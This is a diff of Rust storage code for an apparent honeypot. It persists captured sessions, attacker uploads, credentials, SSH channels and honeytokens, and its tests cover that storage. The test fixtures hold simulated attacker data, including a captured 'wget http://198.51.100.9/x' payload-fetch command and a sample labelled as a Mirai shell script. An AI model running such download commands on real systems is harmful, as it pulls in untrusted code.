+                    message.received_at.to_rfc3339(),
+                    u8::from(message.truncated),
+                    message.mail_from,
+                    message.helo
+                );
+                for rcpt in &message.rcpt_to {
+                    lines.push_str(&format!("\nmessage_rcpt: {}", rcpt));
+                }
+                writeln!(f, "{}", lines).map_err(|e| {
+                    error!(
+                        "Write failed: {}: {}",
+                        sanitize_path(&dir.join("meta.txt")),
+                        e
+                    );
+                    StorageError::WriteFailed
+                })?;
+            }
+        }
+        // carved files, stored raw like uploads
+        if !artifacts.carved_files.is_empty() {
+            let files_dir = dir.join("files");
+            fs::create_dir_all(&files_dir).map_err(|e| {
+                error!(
+                    "Failed to create files dir {}: {}",
+                    sanitize_path(&files_dir),
+                    e
+                );
+                StorageError::WriteFailed
+            })?;
+            for (i, file) in artifacts.carved_files.iter().enumerate() {
+                let path = files_dir.join(format!("{}.bin", i));
+                self.write_file(&path, &file.content).map_err(|e| {
+                    error!("Write failed: {}: {}", sanitize_path(&path), e);
+                    StorageError::WriteFailed
+                })?;
+                let mut lines = format!(
+                    "carved: {} {} {} {}",
+                    file.source.as_str(),
+                    file.sha256,
+                    u8::from(file.truncated),
+                    file.name
+                );
+                if let Some(report) = &file.virustotal {
+                    lines.push_str(&format!("\ncarved_virustotal: {}", report_json(report)?));
+                }
+                writeln!(f, "{}", lines).map_err(|e| {
+                    error!(
+                        "Write failed: {}: {}",
+                        sanitize_path(&dir.join("meta.txt")),
+                        e
+                    );
+                    StorageError::WriteFailed
+                })?;
+            }
+        }
+        // rule matches, one JSON document per line
+        for rule_match in &artifacts.rule_matches {
+            let json = serde_json::to_string(rule_match).map_err(|e| {
+                error!("Failed to serialize rule match: {}", e);
+                StorageError::WriteFailed
+            })?;
+            writeln!(f, "rule_match: {}", json).map_err(|e| {
+                error!(
+                    "Write failed: {}: {}",
+                    sanitize_path(&dir.join("meta.txt")),
+                    e
+                );
+                StorageError::WriteFailed
+            })?;
+        }
+        // keystroke timing, a single JSON document
+        if let Some(keystrokes) = &artifacts.keystrokes {
+            let json = serde_json::to_string(keystrokes).map_err(|e| {
+                error!("Failed to serialize keystroke timing: {}", e);
+                StorageError::WriteFailed
+            })?;
+            writeln!(f, "keystrokes: {}", json).map_err(|e| {
+                error!(
+                    "Write failed: {}: {}",
+                    sanitize_path(&dir.join("meta.txt")),
+                    e
+                );
+                StorageError::WriteFailed
+            })?;
+        }
+        // SSH channels, one JSON document per line
+        for channel in &artifacts.ssh_channels {
+            let json = serde_json::to_string(channel).map_err(|e| {
+                error!("Failed to serialize SSH channel: {}", e);
+                StorageError::WriteFailed
+            })?;
+            writeln!(f, "ssh_channel: {}", json).map_err(|e| {
+                error!(
+                    "Write failed: {}: {}",
+                    sanitize_path(&dir.join("meta.txt")),
+                    e
+                );
+                StorageError::WriteFailed
+            })?;
+        }
+        // offloaded contents, one JSON document per line
+        for object in &artifacts.offloaded {
+            let json = serde_json::to_string(object).map_err(|e| {
+                error!("Failed to serialize offloaded object: {}", e);
+                StorageError::WriteFailed
+            })?;
+            writeln!(f, "offloaded: {}", json).map_err(|e| {
+                error!(
+                    "Write failed: {}: {}",
+                    sanitize_path(&dir.join("meta.txt")),
+                    e
+                );
+                StorageError::WriteFailed
+            })?;
+        }
+        // identity of the container, a single JSON document
+        if let Some(persona) = &artifacts.persona {
+            let json = serde_json::to_string(persona).map_err(|e| {
+                error!("Failed to serialize container persona: {}", e);
+                StorageError::WriteFailed
+            })?;
+            writeln!(f, "persona: {}", json).map_err(|e| {
+                error!(
+                    "Write failed: {}: {}",
+                    sanitize_path(&dir.join("meta.txt")),
+                    e
+                );
+                StorageError::WriteFailed
+            })?;
+        }
+        self.write_file(&dir.join("meta.txt"), &f).map_err(|e| {
+            error!(
+                "Write failed: {}: {}",
+                sanitize_path(&dir.join("meta.txt")),
+                e
+            );
+            StorageError::WriteFailed
+        })?;
+        self.write_search_file(artifacts)?;
+        debug!("Session artifacts saved successfully");
+        Ok(())
+    }
+
+    async fn get_capture_artifacts(
+        &self,
+        session_id: Uuid,
+    ) -> Result<CaptureArtifacts, StorageError> {
+        let dir = self.artifacts_dir_for(session_id);
+        if !dir.is_dir() {
+            return Err(StorageError::NotFound);
+        }
+        let read_bin = |name: &str| -> Result<Vec<u8>, StorageError> {
+            let p = dir.join(name);
+            self.read_file(&p).map_err(|e| {
+                error!("Read failed {}: {}", sanitize_path(&p), e);
+                StorageError::ReadFailed
+            })
+        };
+        // raw streams, possibly compressed
+        let read_stream = |name: &str| compression::decode(&read_bin(name)?);
+        let tcp_client_to_container = read_stream("tcp_client_to_container.bin")?;
+        let tcp_container_to_client = read_stream("tcp_container_to_client.bin")?;
+        let stdio_stdin = read_stream("stdio_stdin.bin")?;
+        let stdio_stdout = read_stream("stdio_stdout.bin")?;
+        let stdio_stderr = read_stream("stdio_stderr.bin")?;
+
         // parse timestamps
         let mut tcp_timestamps: Vec<(DateTime<Utc>, Direction, usize)> = Vec::new();
         let mut s = String::new();
-        File::open(dir.join("tcp_timestamps.csv"))
-            .and_then(|mut f| f.read_to_string(&mut s))
+        self.read_text(&dir.join("tcp_timestamps.csv"), &mut s)
             .map_err(|e| {
                 error!(
                     "Read failed {}: {}",
@@ -678,8 +1237,7 @@ impl Storage for FileStorage {
 
         let mut stdio_timestamps: Vec<(DateTime<Utc>, StdioStream, usize)> = Vec::new();
         s.clear();
-        File::open(dir.join("stdio_timestamps.csv"))
-            .and_then(|mut f| f.read_to_string(&mut s))
+        self.read_text(&dir.join("stdio_timestamps.csv"), &mut s)
             .map_err(|e| {
                 error!(
                     "Read failed {}: {}",
@@ -713,14 +1271,22 @@ impl Storage for FileStorage {
 
         // meta
         s.clear();
-        File::open(dir.join("meta.txt"))
-            .and_then(|mut f| f.read_to_string(&mut s))
-            .map_err(|e| {
-                error!("Read failed {}: {}", dir.join("meta.txt").display(), e);
-                StorageError::ReadFailed
-            })?;
+        self.read_text(&dir.join("meta.txt"), &mut s).map_err(|e| {
+            error!("Read failed {}: {}", dir.join("meta.txt").display(), e);
+            StorageError::ReadFailed
+        })?;
         let mut total_bytes = 0u64;
         let mut duration_secs = 0i64;
+        let (mut transport, mut client_addr, mut server_addr) = (None, None, None);
+        let mut tls: Option<TlsMetadata> = None;
+        let mut uploaded_files = Vec::new();
+        let mut messages: Vec<CapturedMessage> = Vec::new();
+        let mut carved_files = Vec::new();
+        let mut rule_matches = Vec::new();
+        let mut keystrokes = None;
+        let mut offloaded = Vec::new();
+        let mut persona = None;
+        let mut ssh_channels = Vec::new();
         for line in s.lines() {
             if let Some((k, v)) = line.split_once(':') {
                 let k = k.trim();
@@ -728,11 +1294,131 @@ impl Storage for FileStorage {
                 match k {
                     "total_bytes" => total_bytes = v.parse().unwrap_or(0),
                     "duration_secs" => duration_secs = v.parse().unwrap_or(0),
+                    "transport" if v == "tcp" => transport = Some(Transport::Tcp),
+                    "transport" if v == "udp" => transport = Some(Transport::Udp),
+                    "client_addr" => client_addr = v.parse().ok(),
+                    "server_addr" => server_addr = v.parse().ok(),
+                    "tls_version" => tls.get_or_insert_with(Default::default).version = v.into(),
+                    "tls_cipher_suite" => {
+                        tls.get_or_insert_with(Default::default).cipher_suite = v.into()
+                    }
+                    "tls_sni" => tls.get_or_insert_with(Default::default).sni = Some(v.into()),
+                    "tls_alpn" => tls.get_or_insert_with(Default::default).alpn = Some(v.into()),
+                    "tls_ja3" => tls.get_or_insert_with(Default::default).ja3 = Some(v.into()),
+                    "tls_ja3_hash" => {
+                        tls.get_or_insert_with(Default::default).ja3_hash = Some(v.into())
+                    }
+                    "upload" => {
+                        let mut fields = v.splitn(3, ' ');
+                        let (Some(sha256), Some(truncated), Some(name)) =
+                            (fields.next(), fields.next(), fields.next())
+                        else {
+                            continue;
+                        };
+                        let content = read_bin(&format!("uploads/{}.bin", uploaded_files.len()))?;
+                        let digests = Digests::of(&content);
+                        uploaded_files.push(UploadedFile {
+                            name: name.to_string(),
+                            sha256: sha256.to_string(),
+                            md5: digests.md5,
+                            sha1: digests.sha1,
+                            content,
+                            truncated: truncated == "1",
+                            virustotal: None,
+                        });
+                    }
+                    "upload_virustotal" => {
+                        if let Some(upload) = uploaded_files.last_mut() {
+                            upload.virustotal = serde_json::from_str(v).ok();
+                        }
+                    }
+                    "message" => {
+                        let mut fields = v.splitn(3, ' ');
+                        let (Some(received_at), Some(truncated)) = (fields.next(), fields.next())
+                        else {
+                            continue;
+                        };
+                        let Ok(received_at) = DateTime::parse_from_rfc3339(received_at) else {
+                            continue;
+                        };
+                        let content = read_bin(&format!("messages/{}.eml", messages.len()))?;
+                        messages.push(CapturedMessage {
+                            helo: String::new(),
+                            mail_from: fields.next().unwrap_or_default().to_string(),
+                            rcpt_to: Vec::new(),
+                            received_at: received_at.with_timezone(&Utc),
+                            content,
+                            truncated: truncated == "1",
+                        });
+                    }
+                    "carved" => {
+                        let mut fields = v.splitn(4, ' ');
+                        let (Some(source), Some(sha256), Some(truncated), Some(name)) =
+                            (fields.next(), fields.next(), fields.next(), fields.next())
+                        else {
+                            continue;
+                        };
+                        let Some(source) = CarveSource::from_name(source) else {
+                            continue;
+                        };
+                        let content = read_bin(&format!("files/{}.bin", carved_files.len()))?;
+                        let digests = Digests::of(&content);
+                        carved_files.push(CarvedFile {
+                            name: name.to_string(),
+                            source,
+                            sha256: sha256.to_string(),
+                            md5: digests.md5,
+                            sha1: digests.sha1,
+                            content,
+                            truncated: truncated == "1",
+                            virustotal: None,
+                        });
+                    }
+                    "rule_match" => {
+                        if let Ok(rule_match) = serde_json::from_str::<RuleMatch>(v) {
+                            rule_matches.push(rule_match);
+                        }
+                    }
+                    "keystrokes" => keystrokes = serde_json::from_str(v).ok(),
+                    "persona" => persona = serde_json::from_str(v).ok(),
+                    "ssh_channel" => {
+                        if let Ok(channel) = serde_json::from_str::<SshChannelCapture>(v) {
+                            ssh_channels.push(channel);
+                        }
+                    }
+                    "offloaded" => {
+                        if let Ok(object) = serde_json::from_str::<OffloadedObject>(v) {
+                            offloaded.push(object);
+                        }
+                    }
+                    "carved_virustotal" => {
+                        if let Some(file) = carved_files.last_mut() {
+                            file.virustotal = serde_json::from_str(v).ok();
+                        }
+                    }
+                    "message_helo" => {
+                        if let Some(message) = messages.last_mut() {
+                            message.helo = v.to_string();
+                        }
+                    }
+                    "message_rcpt" => {
+                        if let Some(message) = messages.last_mut() {
+                            message.rcpt_to.push(v.to_string());
+                        }
+                    }
                     _ => {}
                 }
             }
         }
         let duration = chrono::Duration::seconds(duration_secs);
+        let flow = match (transport, client_addr, server_addr) {
+            (Some(transport), Some(client_addr), Some(server_addr)) => Some(FlowEndpoints {
+                transport,
+                client_addr,
+                server_addr,
+            }),
+            _ => None,
+        };
         debug!("Session artifacts parsed successfully");
 
         Ok(CaptureArtifacts {
@@ -746,18 +1432,219 @@ impl Storage for FileStorage {
             stdio_timestamps,
             total_bytes,
             duration,
+            flow,
+            tls,
+            uploaded_files,
+            messages,
+            carved_files,
+            rule_matches,
+            keystrokes,
+            ssh_channels,
+            offloaded,
+            persona,
         })
     }
+
+    async fn save_credentials(&self, credentials: &[Credential]) -> Result<(), StorageError> {
+        for credential in credentials {
+            let path = self.credentials_file_for(credential.session_id);
+            let mut line = serde_json::to_string(credential).map_err(|e| {
+                error!("Failed to serialize credential: {}", e);
+                StorageError::WriteFailed
+            })?;
+            line.push('\n');
+            self.append_file(&path, line.as_bytes()).map_err(|e| {
+                error!("Write failed {}: {}", sanitize_path(&path), e);
+                StorageError::WriteFailed
+            })?;
+        }
+        debug!("Credentials appended ({} attempts)", credentials.len());
+        Ok(())
+    }
+
+    async fn get_credentials(
+        &self,
+        filter: Option<CredentialFilter>,
+    ) -> Result<Vec<Credential>, StorageError> {
+        let filter = filter.unwrap_or_default();
+        let paths = match filter.session_id {
+            Some(id) => vec![self.credentials_file_for(id)],
+            None => {
+                let dir = self.base_path.join("credentials");
+                let mut paths = Vec::new();
+                for entry in fs::read_dir(&dir).map_err(|e| {
+                    error!("Failed to read credentials dir: {}", e);
+                    StorageError::ReadFailed
+                })? {
+                    let entry = entry.map_err(|e| {
+                        error!("Dir entry error: {}", e);
+                        StorageError::ReadFailed
+                    })?;
+                    let path = entry.path();
+                    if path.extension().and_then(|s| s.to_str()) == Some("jsonl") {
+                        paths.push(path);
+                    }
+                }
+                paths
+            }
+        };
+
+        let mut credentials: Vec<Credential> = Vec::new();
+        for path in paths {
+            credentials.extend(self.read_credentials_file(&path)?);
+        }
+        let original_len = credentials.len();
+        credentials.retain(|c| filter.matches(c));
+        // Stable, so that attempts of a session keep their order on ties
+        credentials.sort_by_key(|c| c.timestamp);
+        debug!(
+            "Retrieved {} credentials ({} after filtering)",
+            original_len,
+            credentials.len()
+        );
+        Ok(credentials)
+    }
+
+    async fn save_commands(
+        &self,
+        session_id: Uuid,
+        commands: &[ExecutedCommand],
+    ) -> Result<(), StorageError> {
+        let path = self.commands_file_for(session_id);
+        let json = serde_json::to_vec(commands).map_err(|e| {
+            error!("Failed to serialize commands: {}", e);
+            StorageError::WriteFailed
+        })?;
+        self.write_file(&path, &json).map_err(|e| {
+            error!("Write failed {}: {}", sanitize_path(&path), e);
+            StorageError::WriteFailed
+        })?;
+        debug!("Commands stored ({} commands)", commands.len());
+        Ok(())
+    }
+
+    async fn get_commands(&self, session_id: Uuid) -> Result<Vec<ExecutedCommand>, StorageError> {
+        let path = self.commands_file_for(session_id);
+        let json = match self.read_file(&path) {
+            Ok(json) => json,
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
+            Err(e) => {
+                error!("Read failed {}: {}", sanitize_path(&path), e);
+                return Err(StorageError::ReadFailed);
+            }
+        };
+        serde_json::from_slice(&json).map_err(|e| {
+            error!("Malformed commands in {}: {}", sanitize_path(&path), e);
+            StorageError::ReadFailed
+        })
+    }
+
+    async fn save_annotations(&self, annotations: &SessionAnnotations) -> Result<(), StorageError> {
+        let path = self.annotations_file_for(annotations.session_id);
+        let json = serde_json::to_vec(annotations).map_err(|e| {
+            error!("Failed to serialize annotations: {}", e);
+            StorageError::WriteFailed
+        })?;
+        self.write_file(&path, &json).map_err(|e| {
+            error!("Write failed {}: {}", sanitize_path(&path), e);
+            StorageError::WriteFailed
+        })?;
+        debug!("Annotations stored ({} tags)", annotations.tags.len());
+        Ok(())
+    }
+
+    async fn get_annotations(&self, session_id: Uuid) -> Result<SessionAnnotations, StorageError> {
+        self.read_annotations(session_id)
+    }
+
+    async fn save_honeytokens(&self, tokens: &[Honeytoken]) -> Result<(), StorageError> {
+        for token in tokens {
+            let path = self.honeytokens_dir().join(format!("{}.json", token.id));
+            let json = serde_json::to_vec(token).map_err(|e| {
+                error!("Failed to serialize honeytoken: {}", e);
+                StorageError::WriteFailed
+            })?;
+            self.write_file(&path, &json).map_err(|e| {
+                error!("Write failed {}: {}", sanitize_path(&path), e);
+                StorageError::WriteFailed
+            })?;
+        }
+        debug!("Honeytokens stored ({} tokens)", tokens.len());
+        Ok(())
+    }
+
+    async fn get_honeytokens(&self, limit: usize) -> Result<Vec<Honeytoken>, StorageError> {
+        let dir = self.honeytokens_dir();
+        let entries = fs::read_dir(&dir).map_err(|e| {
+            error!("Read failed {}: {}", sanitize_path(&dir), e);
+            StorageError::ReadFailed
+        })?;
+        let mut tokens = Vec::new();
+        for entry in entries.flatten() {
+            let path = entry.path();
+            if path.extension().and_then(|e| e.to_str()) != Some("json") {
+                continue;
+            }
+            let token = self
+                .read_file(&path)
+                .map_err(|e| e.to_string())
+                .and_then(|json| serde_json::from_slice(&json).map_err(|e| e.to_string()));
+            match token {
+                Ok(token) => tokens.push(token),
+                Err(e) => warn!("Skipping honeytoken {}: {}", sanitize_path(&path), e),
+            }
+        }
+        Ok(honeytokens::most_recent(tokens, limit))
+    }
+
+    async fn delete_honeytokens(&self, token_ids: &[Uuid]) -> Result<(), StorageError> {
+        for id in token_ids {
+            let path = self.honeytokens_dir().join(format!("{}.json", id));
+            match fs::remove_file(&path) {
+                Ok(()) => {}
+                Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
+                Err(e) => {
+                    error!("Delete failed {}: {}", sanitize_path(&path), e);
+                    return Err(StorageError::WriteFailed);
+                }
+            }
+        }
+        Ok(())
+    }
+
+    async fn search(&self, query: &str, limit: usize) -> Result<Vec<SearchHit>, StorageError> {
+        let filter = SessionFilter {
+            sort: Some(SessionSort::StartTimeDesc),
+            ..SessionFilter::default()
+        };
+        let mut hits = Vec::new();
+        for session in self.get_sessions(Some(filter)).await? {
+            if hits.len() >= limit {
+                break;
+            }
+            let documents = self.read_search_file(session.id)?;
+            hits.extend(search::matching(session.id, &documents, query));
+        }
+        hits.truncate(limit);
+        debug!("Search matched {} documents", hits.len());
+        Ok(hits)
+    }
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::configuration::types::{HoneytokenKind, HoneytokenSpec};
+    use crate::container_management::ContainerPersona;
+    use crate::data_capture::types::{
+        KeystrokeTiming, SftpTransfer, SshChannelRequest, TransferDirection,
+    };
     use crate::session_management::SessionStatus;
+    use crate::storage::types::AnnotationsUpdate;
     use tempfile::TempDir;
 
-    #[test]
-    fn test_save_and_get_session() {
+    #[tokio::test]
+    async fn test_save_and_get_session() {
         let dir = TempDir::new().unwrap();
         let storage = FileStorage::new(dir.path()).unwrap();
         let session = Session {
@@ -769,9 +1656,11 @@ mod tests {
             container_id: Some("cont-1".into()),
             bytes_transferred: 42,
             status: SessionStatus::Completed,
+            enrichment: None,
+            original_dst: None,
         };
-        storage.save_session(&session).unwrap();
-        let all = storage.get_sessions(None).unwrap();
+        storage.save_session(&session).await.unwrap();
+        let all = storage.get_sessions(None).await.unwrap();
         assert!(all.iter().any(|s| s.id == session.id));
 
         let filtered = storage
@@ -779,6 +1668,7 @@ mod tests {
                 service_name: Some("ssh".into()),
                 ..Default::default()
             }))
+            .await
             .unwrap();
         assert!(filtered.iter().any(|s| s.id == session.id));
 
@@ -787,23 +1677,118 @@ mod tests {
                 service_name: Some("http".into()),
                 ..Default::default()
             }))
+            .await
             .unwrap();
         assert!(!none.iter().any(|s| s.id == session.id));
     }
 
-    #[test]
-    fn test_interaction_data_roundtrip() {
+    #[tokio::test]
+    async fn test_sessions_are_sorted_and_paginated() {
+        let dir = TempDir::new().unwrap();
+        let storage = FileStorage::new(dir.path()).unwrap();
+        let start = Utc::now();
+        for i in 0..5i64 {
+            storage
+                .save_session(&Session {
+                    id: Uuid::new_v4(),
+                    service_name: "ssh".into(),
+                    client_addr: "198.51.100.7:2222".parse().unwrap(),
+                    start_time: start + chrono::Duration::seconds(i),
+                    end_time: None,
+                    container_id: None,
+                    bytes_transferred: (i as u64 * 7) % 5,
+                    status: SessionStatus::Active,
+                    enrichment: None,
+                    original_dst: None,
+                })
+                .await
+                .unwrap();
+        }
+
+        let page = |filter: serde_json::Value| {
+            let filter: SessionFilter = serde_json::from_value(filter).unwrap();
+            let storage = &storage;
+            async move { storage.get_sessions(Some(filter)).await.unwrap() }
+        };
+        let newest = page(
+            serde_json::json!({"service": "ssh", "sort": "-start_time", "offset": 1, "limit": 2}),
+        )
+        .await;
+        let times: Vec<_> = newest.iter().map(|s| s.start_time - start).collect();
+        assert_eq!(
+            times,
+            [chrono::Duration::seconds(3), chrono::Duration::seconds(2)]
+        );
+
+        let by_bytes = page(serde_json::json!({"sort": "bytes_transferred"})).await;
+        let bytes: Vec<_> = by_bytes.iter().map(|s| s.bytes_transferred).collect();
+        assert_eq!(bytes, [0, 1, 2, 3, 4]);
+        assert_eq!(page(serde_json::json!({"offset": 4})).await.len(), 1);
+        assert!(
+            page(serde_json::json!({"since": start + chrono::Duration::seconds(10)}))
+                .await
+                .is_empty()
+        );
+    }
+
+    #[tokio::test]
+    async fn test_sessions_are_filtered_by_origin() {
+        let dir = TempDir::new().unwrap();
+        let storage = FileStorage::new(dir.path()).unwrap();
+        let session = |country_code: &str, asn: u32| Session {
+            id: Uuid::new_v4(),
+            service_name: "ssh".into(),
+            client_addr: "198.51.100.7:2222".parse().unwrap(),
+            start_time: Utc::now(),
+            end_time: None,
+            container_id: None,
+            bytes_transferred: 0,
+            status: SessionStatus::Active,
+            enrichment: Some(crate::enrichment::IpEnrichment {
+                country_code: Some(country_code.into()),
+                asn: Some(asn),
+                ..Default::default()
+            }),
+            original_dst: None,
+        };
+        let chinanet = session("CN", 4134);
+        storage.save_session(&chinanet).await.unwrap();
+        storage.save_session(&session("NL", 64496)).await.unwrap();
+
+        let found = storage
+            .get_sessions(Some(SessionFilter {
+                asn: Some(4134),
+                ..Default::default()
+            }))
+            .await
+            .unwrap();
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].id, chinanet.id);
+        assert_eq!(found[0].enrichment, chinanet.enrichment);
+        let found = storage
+            .get_sessions(Some(SessionFilter {
+                country_code: Some("NL".into()),
+                ..Default::default()
+            }))
+            .await
+            .unwrap();
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].enrichment.as_ref().unwrap().asn, Some(64496));
+    }
+
+    #[tokio::test]
+    async fn test_interaction_data_roundtrip() {
         let dir = TempDir::new().unwrap();
         let storage = FileStorage::new(dir.path()).unwrap();
         let id = Uuid::new_v4();
-        storage.save_interaction(id, b"hello ").unwrap();
-        storage.save_interaction(id, b"world").unwrap();
-        let data = storage.get_session_data(id).unwrap();
+        storage.save_interaction(id, b"hello ").await.unwrap();
+        storage.save_interaction(id, b"world").await.unwrap();
+        let data = storage.get_session_data(id).await.unwrap();
         assert_eq!(data, b"hello world");
     }
 
-    #[test]
-    fn test_capture_artifacts_roundtrip() {
+    #[tokio::test]
+    async fn test_capture_artifacts_roundtrip() {
         let dir = TempDir::new().unwrap();
         let storage = FileStorage::new(dir.path()).unwrap();
         let id = Uuid::new_v4();
@@ -822,9 +1807,100 @@ mod tests {
             stdio_timestamps: vec![(now, StdioStream::Stdout, 3)],
             total_bytes: 9,
             duration: chrono::Duration::seconds(5),
+            flow: Some(FlowEndpoints {
+                transport: Transport::Tcp,
+                client_addr: "[2001:db8::7]:51000".parse().unwrap(),
+                server_addr: "[2001:db8::1]:22".parse().unwrap(),
+            }),
+            tls: Some(TlsMetadata {
+                version: "TLSv1_3".to_string(),
+                cipher_suite: "TLS13_AES_128_GCM_SHA256".to_string(),
+                sni: Some("mail.example.org".to_string()),
+                alpn: None,
+                ja3: Some("771,4865-4866,0-10-11,29-23,0".to_string()),
+                ja3_hash: Some("0123456789abcdef0123456789abcdef".to_string()),
+            }),
+            uploaded_files: vec![UploadedFile {
+                name: "bot v2.sh".to_string(),
+                sha256: "1f2ec52b774368781bed1d1fb140a92e0eb6348090619c9291f9a5a3c8e8d151"
+                    .to_string(),
+                md5: "3e2b31c72181b87149ff995e7202c0e3".to_string(),
+                sha1: "bd971bec88149956458a10fc9c5ecb3eb99dd452".to_string(),
+                content: b"#!/bin/sh\n".to_vec(),
+                truncated: false,
+                virustotal: Some(VirusTotalReport {
+                    checked_at: now,
+                    known: true,
+                    malicious: 31,
+                    suspicious: 1,
+                    undetected: 30,
+                    label: Some("trojan.mirai/shell".to_string()),
+                }),
+            }],
+            messages: vec![CapturedMessage {
+                helo: "[203.0.113.7]".to_string(),
+                mail_from: "".to_string(),
+                rcpt_to: vec!["ceo@example.org".to_string(), "hr@example.org".to_string()],
+                received_at: now,
+                content: b"Subject: Invoice\r\n\r\nSee attached\r\n".to_vec(),
+                truncated: true,
+            }],
+            carved_files: vec![CarvedFile {
+                name: "x 1.bin".to_string(),
+                source: CarveSource::Base64,
+                sha256: "4355a46b19d348dc2f57c046f8ef63d4538ebb936000f3c9ee954a27460dd865"
+                    .to_string(),
+                md5: "d1531b1622de54fe3a0187c3344600e9".to_string(),
+                sha1: "d47cbc8e977ffc6f492483716f00534153677778".to_string(),
+                content: b"\x7fELF".to_vec(),
+                truncated: false,
+                virustotal: None,
+            }],
+            rule_matches: vec![RuleMatch {
+                rule: "elf_dropper".to_string(),
+                tags: vec!["linux".to_string()],
+                target: "carved:x 1.bin".to_string(),
+                strings: vec!["$magic".to_string()],
+            }],
+            keystrokes: Some(KeystrokeTiming {
+                started_at: Utc::now(),
+                count: 4,
+                intervals_ms: vec![120, 2_500, 90],
+                pauses: 1,
+                median_ms: 120,
+                mean_ms: 105,
+                stddev_ms: 15,
+            }),
+            ssh_channels: vec![SshChannelCapture {
+                started_at: now,
+                client_version: "SSH-2.0-OpenSSH_9.6".to_string(),
+                username: "root".to_string(),
+                request: SshChannelRequest::Subsystem {
+                    name: "sftp".to_string(),
+                },
+                terminal: None,
+                sftp_transfers: vec![SftpTransfer {
+                    path: "/tmp/x 1.bin".to_string(),
+                    direction: TransferDirection::Upload,
+                    bytes: 4,
+                    sha256: Some("0".repeat(64)),
+                }],
+            }],
+            offloaded: vec![OffloadedObject {
+                field: "tcp_container_to_client".to_string(),
+                key: format!("miel/{}/tcp_container_to_client", id),
+                size: 4_194_304,
+                sha256: "0".repeat(64),
+            }],
+            persona: Some(ContainerPersona {
+                hostname: Some("srv-3f2a".to_string()),
+                banner: Some("SSH-2.0-OpenSSH_8.4p1".to_string()),
+                uptime_days: Some(212),
+                mac_addresses: vec!["52:54:00:1b:7c:e0".to_string()],
+            }),
         };
-        storage.save_capture_artifacts(&artifacts).unwrap();
-        let got = storage.get_capture_artifacts(id).unwrap();
+        storage.save_capture_artifacts(&artifacts).await.unwrap();
+        let got = storage.get_capture_artifacts(id).await.unwrap();
         assert_eq!(got.session_id, artifacts.session_id);
         assert_eq!(
             got.tcp_client_to_container,
@@ -837,5 +1913,424 @@ mod tests {
         assert_eq!(got.stdio_stdout, artifacts.stdio_stdout);
         assert_eq!(got.total_bytes, artifacts.total_bytes);
         assert_eq!(got.duration, artifacts.duration);
+        assert_eq!(got.flow, artifacts.flow);
+        assert_eq!(got.tls, artifacts.tls);
+        assert_eq!(got.uploaded_files, artifacts.uploaded_files);
+        assert_eq!(got.messages, artifacts.messages);
+        assert_eq!(got.carved_files, artifacts.carved_files);
+        assert_eq!(got.rule_matches, artifacts.rule_matches);
+        assert_eq!(got.keystrokes, artifacts.keystrokes);
+        assert_eq!(got.offloaded, artifacts.offloaded);
+        assert_eq!(got.persona, artifacts.persona);
+        assert_eq!(got.ssh_channels, artifacts.ssh_channels);
+    }
+
+    #[tokio::test]
+    async fn test_captured_text_is_searched() {
+        let dir = TempDir::new().unwrap();
+        let storage = FileStorage::new(dir.path()).unwrap();
+        let mut ids = Vec::new();
+        for (i, stdout) in ["Connecting to 198.51.100.9:80", "198.51.100.9 unreachable"]
+            .into_iter()
+            .enumerate()
+        {
+            let id = Uuid::new_v4();
+            let start_time = Utc::now() - chrono::Duration::minutes(10 - i as i64);
+            let session = Session {
+                id,
+                service_name: "ssh".into(),
+                client_addr: "192.0.2.4:4000".parse().unwrap(),
+                start_time,
+                end_time: Some(start_time),
+                container_id: None,
+                bytes_transferred: 0,
+                status: SessionStatus::Completed,
+                enrichment: None,
+                original_dst: None,
+            };
+            storage.save_session(&session).await.unwrap();
+            let artifacts = CaptureArtifacts {
+                session_id: id,
+                stdio_stdin: "wget http://198.51.100.9/x\n".to_string(),
+                stdio_stdout: stdout.to_string(),
+                duration: chrono::Duration::seconds(1),
+                ..Default::default()
+            };
+            storage.save_capture_artifacts(&artifacts).await.unwrap();
+            ids.push(id);
+        }
+
+        let hits = storage.search("unreachable", 10).await.unwrap();
+        assert_eq!(hits.len(), 1);
+        assert_eq!(
+            (hits[0].session_id, hits[0].field),
+            (ids[1], SearchField::Stdout)
+        );
+        let hits = storage.search("198.51.100.9", 3).await.unwrap();
+        let sessions: Vec<Uuid> = hits.iter().map(|h| h.session_id).collect();
+        assert_eq!(sessions, [ids[1], ids[1], ids[0]]);
+
+        storage.delete_sessions(&ids).await.unwrap();
+        assert!(storage.search("wget", 10).await.unwrap().is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_compressed_streams_roundtrip() {
+        let dir = TempDir::new().unwrap();
+        let storage = FileStorage::new(dir.path())
+            .unwrap()
+            .with_compression(ArtifactCompression::Gzip);
+        let id = Uuid::new_v4();
+        let artifacts = CaptureArtifacts {
+            session_id: id,
+            tcp_client_to_container: b"USER anonymous\r\n".repeat(200),
+            stdio_stdout: "drwxr-xr-x 2 root root 4096 .\n".repeat(200),
+            total_bytes: 9800,
+            duration: chrono::Duration::seconds(5),
+            uploaded_files: vec![UploadedFile {
+                name: "x.sh".to_string(),
+                sha256: "0".repeat(64),
+                md5: "3e2b31c72181b87149ff995e7202c0e3".to_string(),
+                sha1: "bd971bec88149956458a10fc9c5ecb3eb99dd452".to_string(),
+                content: b"#!/bin/sh\n".to_vec(),
+                truncated: false,
+                virustotal: None,
+            }],
+            ..Default::default()
+        };
+        storage.save_capture_artifacts(&artifacts).await.unwrap();
+
+        let artifacts_dir = storage.artifacts_dir_for(id);
+        let stream = fs::read(artifacts_dir.join("tcp_client_to_container.bin")).unwrap();
+        assert!(stream.starts_with(compression::MAGIC));
+        assert!(stream.len() < artifacts.tcp_client_to_container.len() / 4);
+        // Samples stay as received
+        let upload = fs::read(artifacts_dir.join("uploads/0.bin")).unwrap();
+        assert_eq!(upload, b"#!/bin/sh\n");
+
+        let got = storage.get_capture_artifacts(id).await.unwrap();
+        assert_eq!(
+            got.tcp_client_to_container,
+            artifacts.tcp_client_to_container
+        );
+        assert_eq!(got.stdio_stdout, artifacts.stdio_stdout);
+        assert_eq!(got.uploaded_files, artifacts.uploaded_files);
+    }
+
+    #[tokio::test]
+    async fn test_encrypted_files_roundtrip() {
+        let dir = TempDir::new().unwrap();
+        let key = || EncryptionKey::parse(&"5a".repeat(32)).unwrap();
+        let storage = FileStorage::new(dir.path())
+            .unwrap()
+            .with_compression(ArtifactCompression::Gzip)
